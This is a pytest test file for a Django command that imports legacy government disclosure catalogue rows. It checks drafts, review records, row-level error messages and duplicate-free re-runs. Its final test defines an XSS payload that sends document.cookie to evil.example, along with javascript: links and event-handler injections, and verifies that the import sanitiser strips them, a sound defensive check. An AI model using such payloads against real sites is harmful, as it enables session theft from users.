"""import_catalogue: legacy rows become drafts (or, as a legacy import, live items with a
review record); bad rows are reported by number; re-running creates no duplicates."""
import csv
import datetime
import json

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import Workbook

from gongkai.disclosure_pages.actions.import_rows import ImportRowsAction
from gongkai.disclosure_pages.models import DisclosureItemPage, Genre, Organ, Topic
from gongkai.review_workflow.choices import RecordKind
from gongkai.review_workflow.models import SecrecyReviewRecord

pytestmark = pytest.mark.django_db
COLUMNS = ["title", "body", "organ", "doc_number", "written_date", "topic", "genre", "disclosure", "reason",
           "classification", "validity", "index_number", "external_id"]
ORGANS = ["方山县人民政府办公室", "方山县生态环境局", "方山县教育局", "方山县民政局"]


def legacy_row(n, **changes):
    row = {
        "title": f"关于第{n}批惠民政策落实情况的通告",
        "body": f"第{n}批政策已落实。\n请各单位周知。",
        "organ": ORGANS[n % len(ORGANS)],
        "doc_number": f"方政办[2023]{n}号",
        "written_date": f"2023-{n % 12 + 1:02d}-{n % 27 + 1:02d}",
        "topic": "综合政务/信息公开" if n % 3 else "城乡建设、环境保护/环境监测、保护与治理" if n % 2 else "综合政务/信息公开",
        "genre": "通告" if n % 5 else "专项说明",
        "disclosure": "主动公开" if n % 2 else "public",
        "reason": "",
        "classification": "非密" if n % 2 else "",
        "validity": "有效",
        "index_number": f"LEGACY/2023-{n:05d}" if n % 4 == 0 else "",
        "external_id": f"OLD-{n:04d}",
    }
    row.update(changes)
    return row


def write_xlsx(path, rows):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(COLUMNS)
    for row in rows:
        sheet.append([row[column] for column in COLUMNS])
    workbook.save(path)
    return path


def write_csv(path, rows):
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    return path


@pytest.fixture
def reviewer(django_user_model):
    return django_user_model.objects.create_superuser("baomi", password="x")


def test_a_165_row_legacy_file_becomes_165_live_items_and_a_second_run_creates_none(
    tmp_path, catalogue, reviewer, capsys
):
    path = write_xlsx(tmp_path / "legacy.xlsx", [legacy_row(n) for n in range(1, 166)])
    arguments = ["import_catalogue", str(path), "--legacy-published", "--create-missing",
                 "--reviewer", "baomi", "--basis", "县保密办2025年第3号审定"]

    call_command(*arguments)
    output = capsys.readouterr()
    assert "165 created (165 published), 0 already imported, 0 refused" in output.out
    assert "165/165" in output.err  # the progress bar
    assert DisclosureItemPage.objects.live().count() == 165
    assert Organ.objects.filter(name__in=ORGANS).count() == 4
    assert Genre.objects.filter(name="专项说明").exists()
    assert DisclosureItemPage.objects.get(external_id="OLD-0008").index_number == "LEGACY/2023-00008"
    assert DisclosureItemPage.objects.get(external_id="OLD-0001").published_date == timezone.localdate()
    legacy_records = SecrecyReviewRecord.objects.filter(kind=RecordKind.LEGACY_IMPORT)
    assert set(legacy_records.values_list("page_id", flat=True)) == set(
        DisclosureItemPage.objects.live().values_list("pk", flat=True)
    )
    assert set(legacy_records.values_list("basis", flat=True)) == {"县保密办2025年第3号审定"}
    call_command("verify_review_ledger")
    assert "The review ledger is intact (165 records)." in capsys.readouterr().out

    call_command(*arguments)
    assert "0 created (0 published), 165 already imported, 0 refused" in capsys.readouterr().out
    assert DisclosureItemPage.objects.count() == 165


def test_a_20_row_file_with_3_broken_rows_creates_17_and_reports_exactly_those_rows(
    tmp_path, catalogue, other_catalogue, capsys
):
    rows = [legacy_row(n, organ="方山县人民政府办公室", genre="通告") for n in range(1, 21)]
    future = (timezone.localdate() + datetime.timedelta(days=30)).isoformat()
    rows[3]["written_date"] = future
    rows[8].update(disclosure="依申请公开", reason="")
    rows[14]["genre"] = "未知体裁"
    call_command("import_catalogue", str(write_csv(tmp_path / "batch.csv", rows)))

    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("第")]
    assert errors == [
        "第 4 行：成文日期：成文日期不能晚于今天。",
        "第 9 行：不公开理由：非主动公开的条目须填写不公开理由。",
        "第 15 行：未知的体裁“未知体裁”。",
    ]
    assert DisclosureItemPage.objects.count() == 17


def import_rows(rows, **options):
    return ImportRowsAction(rows, **options).execute()


def test_without_options_rows_become_drafts_with_a_revision(catalogue):
    report = import_rows([legacy_row(1, organ="方山县人民政府办公室", genre="通知")])
    assert (report.created, report.published, report.errors) == (1, 0, [])
    item = DisclosureItemPage.objects.get()
    assert not item.live
    assert item.latest_revision is not None
    assert item.body == "<p>第1批政策已落实。</p><p>请各单位周知。</p>"
    assert item.doc_number == "方政办〔2023〕1号"


def test_codes_and_labels_are_both_accepted_and_missing_disclosure_means_proactive(catalogue):
    rows = [
        legacy_row(1, organ="111411994056312813", genre="tong-zhi", disclosure="on_request",
                   reason="process_information"),
        legacy_row(2, organ="方山县人民政府办公室", genre="通知", disclosure="依申请公开", reason="过程性信息"),
        legacy_row(3, organ="方山县人民政府办公室", genre="通知", disclosure="", classification=""),
    ]
    report = import_rows(rows)
    assert report.errors == []
    items = {item.external_id: item for item in DisclosureItemPage.objects.all()}
    assert items["OLD-0001"].disclosure == items["OLD-0002"].disclosure == "on_request"
    assert items["OLD-0002"].reason == "process_information"
    assert items["OLD-0003"].disclosure == "public"


def test_unknown_organs_and_topics_are_row_errors_without_create_missing(catalogue):
    report = import_rows([legacy_row(1, organ="方山县水利局"), legacy_row(2, organ="方山县人民政府办公室",
                                                                  topic="不存在的主题", genre="通知")])
    assert [str(error) for error in report.errors] == [
        "第 1 行：未知的公开主体“方山县水利局”。",
        "第 2 行：未知的主题分类“不存在的主题”。",
    ]
    assert not Organ.objects.filter(name="方山县水利局").exists()


def test_with_create_missing_an_unknown_organ_gets_a_catalogue_and_a_placeholder_code(home_page):
    report = import_rows([legacy_row(1, organ="方山县水利局", topic="新主题/新二级", genre="通知")],
                         create_missing=True)
    assert report.errors == []
    organ = Organ.objects.get(name="方山县水利局")
    assert organ.code.startswith("TMP") and organ.catalogue.live
    assert Topic.objects.get(name="新二级").parent.name == "新主题"
    assert DisclosureItemPage.objects.get().index_number == "方山县水利局/2023-00001"


def test_rows_are_read_from_jsonl(tmp_path, catalogue):
    path = tmp_path / "rows.jsonl"
    path.write_text("\n".join(json.dumps(legacy_row(n, organ="方山县人民政府办公室", genre="通知"),
                                         ensure_ascii=False) for n in (1, 2)), encoding="utf-8")
    call_command("import_catalogue", str(path), "--no-submit", verbosity=0)
    assert DisclosureItemPage.objects.count() == 2


HOSTILE_BODY = (
    '<p onclick="steal()">各乡镇：<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '现将补贴名单公布如下。<a href="javascript:alert(1)">点此查看</a>'
    '<a href="https://www.gov.cn/zhengce/">国务院政策</a></p>'
    '<iframe src="https://evil.example/"></iframe><img src="x" onerror="alert(2)">'
    '<style>body{display:none}</style><table><tr><td>张三</td><td>2000元</td></tr></table>'
)


def test_legacy_html_is_sanitised_on_import_and_served_without_scripts(catalogue, client, reviewer):
    report = import_rows(
        [legacy_row(1, organ="方山县人民政府办公室", body=HOSTILE_BODY)],
        legacy_published=True,
        legacy_reviewer=reviewer,
        legacy_basis="旧系统已审",
    )
    assert report.errors == []
    item = DisclosureItemPage.objects.get(external_id="OLD-0001")
    assert item.live

    for stored in (item.body, item.get_latest_revision_as_object().body):
        for hostile in ("<script", "document.cookie", "javascript:", "<iframe", "onclick", "onerror", "<style"):
            assert hostile not in stored.lower()
        assert "现将补贴名单公布如下。" in stored and "点此查看" in stored
        assert '<a href="https://www.gov.cn/zhengce/">国务院政策</a>' in stored
        assert "<td>张三</td>" in stored, "legacy tables keep their cells"
    page = client.get(item.url).content.decode()
    assert "evil.example" not in page and "javascript:alert" not in page
